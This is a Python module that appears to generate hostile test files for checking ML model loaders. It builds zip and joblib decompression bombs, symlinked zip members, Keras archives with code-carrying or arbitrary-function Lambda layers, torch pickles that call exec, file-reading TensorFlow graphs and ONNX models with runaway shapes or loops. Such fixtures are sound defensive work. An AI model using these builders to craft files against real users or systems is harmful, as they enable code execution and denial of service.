"""Build hostile files of the formats that are not pickles, mostly by hand, so that they need no library."""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any


def deflated_zeros(start: bytes, mebibytes: int) -> bytes:
    """Return a raw deflate stream of `start` and then `mebibytes` MiB of zeros, in a thousandth of the size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers back, so one block can be repeated any number of times.
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * mebibytes + packer.flush(zlib.Z_FINISH)


def joblib_bomb(gibibytes: int) -> bytes:
    """Return a joblib file compressed with zlib, whose pickle holds one bytes object of that many GiB."""
    size = gibibytes << 30
    start = b"\x80\x04\x8e" + struct.pack("<Q", size)
    return b"\x78\x9c" + deflated_zeros(start, gibibytes << 10) + b"\0\0\0\0"


def zip_bomb(name: str, gibibytes: int) -> bytes:
    """Return a zip with one member that unpacks to that many GiB."""
    packed = deflated_zeros(b"", gibibytes << 10)
    size = min(gibibytes << 30, 0xFFFFFFFE)
    fixed = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 0, 0, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + fixed + name.encode() + packed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + fixed + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + name.encode()
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 1, 1, len(central), len(local), 0)


def zip_of(members: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content)
        for name, target in (links or {}).items():
            member = zipfile.ZipInfo(name)
            member.external_attr = 0o120777 << 16
            archive.writestr(member, target)
    return stream.getvalue()


def keras_archive(layer: dict[str, Any]) -> bytes:
    """A `.keras` file of one input and one layer that carries whatever its configuration says."""
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer",
                 "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"}},
                layer,
            ],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }  # fmt: skip
    metadata = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
    return zip_of(
        {"metadata.json": json.dumps(metadata).encode(), "config.json": json.dumps(config).encode(),
         "model.weights.h5": b""}
    )  # fmt: skip


def lambda_layer(path: Path) -> dict[str, Any]:
    """A Keras Lambda layer whose code makes a file."""
    code = compile(f"lambda x: open({str(path)!r}, 'w') and x", "layer", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lambda", "function": function, "arguments": {}}}  # fmt: skip


def function_layer(module: str, name: str, argument: object) -> dict[str, Any]:
    """A Lambda layer that names a function of some module, to be called with an argument (as in CVE-2025-1550)."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lambda", "function": function, "arguments": {"command": argument}}}  # fmt: skip


def module_layer(module: str, name: str, argument: object) -> dict[str, Any]:
    """A "layer" of any class of any module."""
    return {"module": module, "class_name": name, "config": {"args": argument}, "registered_name": None}


class TorchModule:
    """Unpickles to a call: what `torch.save` of a hostile module holds."""

    def __init__(self, source: str) -> None:
        self._source = source

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return exec, (self._source,)


def torch_archive(source: str) -> bytes:
    """A `.pt` file, zip with data.pkl, whose pickle runs source."""
    return zip_of({"archive/data.pkl": pickle.dumps(TorchModule(source), 2), "archive/version": b"3\n"})


def script_archive(source: str) -> bytes:
    """Return a TorchScript file whose pickles run source if an ordinary unpickler reads them."""
    evil = pickle.dumps(TorchModule(source), 2)
    return zip_of({"archive/data.pkl": evil, "archive/constants.pkl": evil, "archive/version": b"3\n"})


def _field(number: int, content: bytes | str) -> bytes:
    data = content.encode() if isinstance(content, str) else content
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _varint(value: int) -> bytes:
    encoded = b""
    while True:
        value, low = value >> 7, value & 0x7F
        if not value:
            return encoded + bytes((low,))
        encoded += bytes((low | 0x80,))


def frozen_graph(operation: str, path: str) -> bytes:
    """A TensorFlow GraphDef that reads or writes a file: constant name → operation."""
    tensor = _varint(1 << 3 | 0) + _varint(7) + _field(2, b"") + _field(8, path)
    value = _field(5, _field(1, "value") + _field(2, _field(8, tensor)))
    dtype = _field(5, _field(1, "dtype") + _field(2, _varint(6 << 3 | 0) + _varint(7)))
    constant = _field(1, "name") + _field(2, "Const") + value + dtype
    node = _field(1, "result") + _field(2, operation) + _field(3, "name") + _field(3, "name")
    return _field(1, constant) + _field(1, node)


def onnx_model(*, location: str | None = None, huge: bool = False, endless: bool = False) -> bytes:
    """An ONNX model with external data at `location`, with a result far too large, or with a loop that never ends."""
    from onnx import TensorProto, helper

    table = helper.make_tensor_value_info("table", TensorProto.FLOAT, [None, 2])
    result = helper.make_tensor_value_info("result", TensorProto.FLOAT, None)
    weights = helper.make_tensor("weights", TensorProto.FLOAT, [2, 1], [1.0, 1.0])
    nodes = [helper.make_node("MatMul", ["table", "weights"], ["result"])]
    initializers = [weights]
    if location is not None:
        weights.ClearField("float_data")
        weights.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "8")):
            weights.external_data.add(key=key, value=value)
    if huge:
        shape = helper.make_tensor("shape", TensorProto.INT64, [2], [1 << 20, 1 << 20])
        initializers.append(shape)
        nodes = [
            helper.make_node("ConstantOfShape", ["shape"], ["ones"]),
            helper.make_node("ReduceMax", ["ones"], ["most"]),
            helper.make_node("Mul", ["table", "most"], ["result"]),
        ]
    if endless:
        nodes, more = _endless_loop()
        initializers += more
    graph = helper.make_graph(nodes, "graph", [table], [result], initializers)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    return bytes(model.SerializeToString())


def _endless_loop() -> tuple[list[Any], list[Any]]:
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["go"], ["go_on"]),
            helper.make_node("Sin", ["kept"], ["kept_on"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("round", TensorProto.INT64, []),
            helper.make_tensor_value_info("go", TensorProto.BOOL, []),
            helper.make_tensor_value_info("kept", TensorProto.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info("go_on", TensorProto.BOOL, []),
            helper.make_tensor_value_info("kept_on", TensorProto.FLOAT, None),
        ],
    )
    rounds = helper.make_tensor("rounds", TensorProto.INT64, [], [2**62])
    yes = helper.make_tensor("yes", TensorProto.BOOL, [], [True])
    return [helper.make_node("Loop", ["rounds", "yes", "table"], ["result"], body=body)], [rounds, yes]
